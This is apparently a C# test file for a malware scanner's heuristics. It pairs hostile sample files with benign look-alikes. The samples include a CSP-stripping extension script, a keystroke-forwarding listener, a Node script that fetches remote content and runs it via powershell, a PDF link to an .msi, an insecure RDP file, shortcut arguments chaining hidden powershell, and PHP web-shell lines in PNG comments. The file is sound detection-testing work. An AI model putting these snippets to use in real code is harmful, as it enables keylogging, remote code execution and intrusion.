using ScanHost.Formats.Containers;
using ScanHost.Pipeline.Findings;
using ScanHost.Pipeline.Tests.Doubles;
using ScanHost.TestKit;

namespace ScanHost.Pipeline.Tests.Audit;

/// <summary>Extensions, links and settings as they are sent, and what well-meaning people make that comes close.</summary>
public sealed class BuiltFileCases
{
    private const string Strips = "chrome.webRequest.onHeadersReceived.addListener(function(d){return{responseHeaders:d.responseHeaders.filter(function(h){return h.name.toLowerCase()!='content-security-policy'})}},{urls:['<all_urls>']},['blocking','responseHeaders']);\n";
    private const string Gathers = "const cp=require('child_process'),https=require('https');\nhttps.get('https://host.invalid/t',s=>{let b='';s.on('data',x=>b+=x);s.on('end',()=>{";

    private static readonly HeuristicCase[] Table =
    [
        HeuristicCase.Of(ScriptHeuristics.JsStripsPolicy, "a.js", Strips,
            "chrome.webRequest.onHeadersReceived.addListener(function(d){log(d.statusCode)},{urls:['<all_urls>']});\n", "app.use((q,r,n)=>{r.setHeader('content-security-policy',\"default-src 'self'\");n()});\n", "const names=['content-security-policy','x-frame-options'];\nmodule.exports=names;\n"),
        HeuristicCase.Of(ScriptHeuristics.JsSendsKeys, "a.js", "document.addEventListener('keydown',function(e){chrome.runtime.sendMessage({k:e.key,u:location.href})},true);\n",
            "document.addEventListener('keydown',function(e){if(e.key==='k'&&e.ctrlKey)chrome.runtime.sendMessage({open:true})},true);\n", "document.addEventListener('keydown',e=>{game.press(e.key)});\n", "document.addEventListener('click',function(e){chrome.runtime.sendMessage({x:e.clientX})});\n"),
        HeuristicCase.Of(ScriptHeuristics.JsStartsSaved, "a.js", Gathers + "cp.exec('powershell.exe -Command '+JSON.parse(b).t)})});\n",
            Gathers + "console.log(JSON.parse(b).t)})});\n", Gathers + "if(JSON.parse(b).isNew)cp.exec('npm update')})});\n", "const cp=require('child_process');\nlet b='';process.stdin.on('data',x=>b+=x);process.stdin.on('end',()=>console.log(b.length));\n"),
        new(DocumentHeuristics.PdfProgramLink, Linking("http://203.0.113.9/bills/November.msi"), Linking("https://host.invalid/setup.msi"), Linking("http://192.168.4.20/tools/setup.msi"), Linking("http://203.0.113.9/bills/November.pdf")),
        HeuristicCase.Of(SettingsHeuristics.RemoteDesktop, "a.rdp", "full address:s:eu.checks.example\r\ndrivestoredirect:s:*\r\nauthentication level:i:0\r\n",
            "full address:s:eu.checks.example\r\ndrivestoredirect:s:*\r\nauthentication level:i:2\r\n", "full address:s:rds.firm.example\r\ngatewayhostname:s:gw.firm.example\r\ndrivestoredirect:s:*\r\nauthentication level:i:0\r\n", "full address:s:lab4.firm.local\r\ndrivestoredirect:s:*\r\nauthentication level:i:0\r\n"),
    ];

    public static TheoryData<int> Rows => [.. Enumerable.Range(0, Table.Length)];

    [Theory]
    [MemberData(nameof(Rows))]
    public Task A_file_deserves_it_and_three_that_come_close_do_not(int row) => Table[row].CheckAsync();

    [Theory]
    [InlineData("cmd.exe", "/c \"\\\\filesrv01\\netlogon\\drives.cmd\"", false)]
    [InlineData("rundll32.exe", "printui.dll,PrintUIEntry /in /n \\\\print01\\floor2", false)]
    [InlineData("cmd.exe", "/c \\\\host.invalid\\share\\drives.cmd", true)]
    [InlineData("cmd.exe", "/c \"\\\\filesrv01\\netlogon\\drives.cmd\" && powershell -w hidden a.ps1", true)]
    [InlineData("rundll32.exe", "\\\\192.0.2.1\\share\\printui.dll,Start", true)]
    public async Task A_shortcut_to_what_stands_on_an_own_server_is_nobody_s_attack(string program, string arguments, bool isFound)
    {
        var outcome = await Scans.OfAsync(new LinkBuilder().To("C:\\Windows\\System32\\" + program).With(arguments).Build(), "a.lnk");

        outcome.Findings.Any(one => one.Id is "lnk.lolbin_command" or "lnk.lolbin").Should().Be(isFound);
    }

    [Fact]
    public async Task A_document_attached_to_an_Outlook_message_does_not_make_it_two_files()
    {
        using var scans = new Scans { Readers = ContainerReaders.All };
        var message = new MsgBuilder().Text(0x0037, "Contract").Attachment("Contract.docx", OoxmlBuilder.Word().Build()).Build();

        var outcome = await scans.ScanAsync(message, "a.msg");

        outcome.Findings.Select(one => one.Id).Should().NotContain(["zip.prepended_data", "zip.trailing_data", "ooxml.prepended"]);
        outcome.Artifacts.Should().Contain(one => one.Name == "Contract.docx");
    }

    [Fact]
    public async Task The_signatures_of_an_Android_package_are_no_gap()
    {
        using var scans = new Scans { Readers = ContainerReaders.All };
        using var package = new MemoryStream();
        using (var zip = new System.IO.Compression.ZipArchive(package, System.IO.Compression.ZipArchiveMode.Create, leaveOpen: true))
        {
            using var writer = new StreamWriter(zip.CreateEntry("AndroidManifest.xml").Open());
            writer.Write("words");
        }

        var signed = await scans.ScanAsync(ApkBuilder.Sign(package.ToArray(), "CN=Somebody"), "a.apk");

        signed.Findings.Select(one => one.Id).Should().NotContain("zip.gap");
    }

    [Theory]
    [InlineData("<?php echo 'Hello'; ?> is the first line of the lesson", false)]
    [InlineData("<?php echo 'Hello'; ?><?php system($_GET[1]); ?>", true)]
    [InlineData("<?php echo `$_GET[1]`; ?>", true)]
    public async Task A_picture_s_text_that_only_says_something_is_no_code(string text, bool isFound)
    {
        var outcome = await Scans.OfAsync(InertFiles.Png(3, 2, "Comment\0" + text, null), "a.png");

        outcome.Findings.Any(one => one.Id == "imgf.code_meta").Should().Be(isFound);
    }

    private static SampleFile Linking(string address) => new("a.pdf", new PdfBuilder().Add(20, $"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI ({address}) >> >>").Build());
}
